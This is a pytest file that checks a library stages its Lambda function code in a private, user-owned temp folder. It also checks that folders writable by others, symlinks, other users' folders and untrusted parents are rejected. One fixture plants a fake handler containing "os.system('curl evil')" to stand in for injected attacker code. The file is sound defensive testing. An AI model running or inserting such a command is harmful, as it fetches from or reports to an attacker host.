"""Where the snapshot functions' code is staged: a folder only this user can write to.

The staged folder is reused by later synths and goes into the functions as it is found, so a
folder that another user made (before: ``<tmp>/kmskit-lambda-assets``, shared by every user)
could put their code into this user's functions, or, made 0700 by them, stop this user's synth
(``EACCES: permission denied, scandir``).
"""

from __future__ import annotations

import hashlib
import os
import shutil
import stat
import tempfile
from pathlib import Path

import pytest

from constructs_lib._lambda_assets import ASSET_ROOT_PREFIX
from constructs_lib.snapshot_replication import PACKAGE, _stage_asset

pytestmark = pytest.mark.skipif(os.name != "posix", reason="the uid-named folder is POSIX only")


@pytest.fixture
def temporary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """tempfile.gettempdir() for the test: a private folder of its own."""
    tmp_path.chmod(0o700)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


def _contents(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def test_assets_are_staged_in_a_private_folder_of_this_user_and_reused(temporary: Path) -> None:
    staged = Path(_stage_asset())
    root = temporary / f"{ASSET_ROOT_PREFIX}-{os.getuid()}"
    assert staged.parent == root
    assert staged.name.startswith(f"{PACKAGE}-")
    status = root.stat()
    assert status.st_uid == os.getuid()
    assert stat.S_IMODE(status.st_mode) == 0o700
    assert _stage_asset() == str(staged)


def _plant(root: Path, honest: Path) -> Path:
    """A folder of the staged folder's name under ``root``, holding someone else's handler."""
    planted = root / honest.name
    (planted / PACKAGE).mkdir(parents=True)
    (planted / PACKAGE / "handler.py").write_text("import os; os.system('curl evil')\n")
    return planted


@pytest.mark.parametrize("mode", [0o777, 0o770, 0o757, 0o1777], ids=oct)
def test_a_folder_that_others_can_write_is_not_used(temporary: Path, mode: int) -> None:
    honest = Path(_stage_asset())
    expected = _contents(honest)
    root = temporary / "elsewhere"
    root.mkdir()
    honest.parent.rename(root)
    shared = temporary / f"{ASSET_ROOT_PREFIX}-{os.getuid()}"
    shared.mkdir(mode=0o700)
    shared.chmod(mode)
    planted = _plant(shared, honest)
    with pytest.warns(RuntimeWarning, match=r"is writable by group or others") as caught:
        staged = Path(_stage_asset())
    assert str(shared) in str(caught[0].message)
    assert staged != planted
    assert not staged.is_relative_to(shared)
    assert _contents(staged) == expected  # the same files, so the same asset hash


def test_a_folder_planted_where_every_user_used_to_stage_is_not_used(temporary: Path) -> None:
    honest = Path(_stage_asset())
    shutil.rmtree(honest.parent)
    shared = temporary / ASSET_ROOT_PREFIX
    shared.mkdir(mode=0o777)
    shared.chmod(0o777)
    planted = _plant(shared, honest)
    staged = Path(_stage_asset())
    assert staged != planted
    assert (staged / PACKAGE / "handler.py").read_bytes() != (
        planted / PACKAGE / "handler.py"
    ).read_bytes()


def test_a_symlink_in_its_place_is_not_followed(temporary: Path) -> None:
    honest = Path(_stage_asset())
    target = temporary / "target"
    honest.parent.rename(target)
    (temporary / f"{ASSET_ROOT_PREFIX}-{os.getuid()}").symlink_to(target)
    with pytest.warns(RuntimeWarning, match=r"is not a directory"):
        staged = Path(_stage_asset())
    assert not staged.is_relative_to(target)


@pytest.mark.skipif(os.getuid() != 0, reason="making a folder of another user needs root")
def test_another_users_folder_is_not_used(temporary: Path) -> None:
    honest = Path(_stage_asset())
    expected = _contents(honest)
    root = honest.parent
    os.chown(root, 65534, -1)  # nobody
    with pytest.warns(RuntimeWarning, match=r"belongs to user id 65534"):
        staged = Path(_stage_asset())
    assert staged.parent != root
    assert _contents(staged) == expected


def test_a_parent_that_others_can_write_is_not_trusted_unless_sticky(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # TMPDIR inside a folder anyone may rename entries of: the private folder could be swapped.
    tmp_path.chmod(0o700)
    open_parent = tmp_path / "open"
    temporary = open_parent / "tmp"
    temporary.mkdir(parents=True, mode=0o700)
    open_parent.chmod(0o777)
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    with pytest.warns(RuntimeWarning, match=r"is writable by group or others") as caught:
        staged = Path(_stage_asset())
    assert f"{open_parent} is writable by group or others" in str(caught[0].message)
    assert not staged.is_relative_to(temporary / f"{ASSET_ROOT_PREFIX}-{os.getuid()}")
    open_parent.chmod(0o1777)  # sticky, as /tmp: others may add entries, not replace ours
    assert Path(_stage_asset()).parent == temporary / f"{ASSET_ROOT_PREFIX}-{os.getuid()}"


def test_a_folder_of_root_is_not_used_by_another_user(
    temporary: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Left by an earlier synth run with sudo: this user could not write into it.
    user = os.getuid() + 4242
    root = temporary / f"{ASSET_ROOT_PREFIX}-{user}"
    root.mkdir(mode=0o700)
    monkeypatch.setattr(os, "getuid", lambda: user)
    with pytest.warns(RuntimeWarning, match=rf"{root} belongs to user id {root.stat().st_uid}"):
        staged = Path(_stage_asset())
    assert not staged.is_relative_to(root)


@pytest.mark.skipif(os.getuid() != 0, reason="making a folder of another user needs root")
def test_parents_of_this_user_or_root_are_trusted_and_of_others_not(
    temporary: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    user = 65534  # nobody; the parents up to / belong to root
    root = temporary / f"{ASSET_ROOT_PREFIX}-{user}"
    root.mkdir(mode=0o700)
    os.chown(root, user, -1)
    monkeypatch.setattr(os, "getuid", lambda: user)
    assert Path(_stage_asset()).parent == root
    os.chown(temporary, 4242, -1)  # a parent of a third user
    with pytest.warns(RuntimeWarning, match=rf"{temporary} belongs to user id 4242"):
        staged = Path(_stage_asset())
    assert not staged.is_relative_to(root)
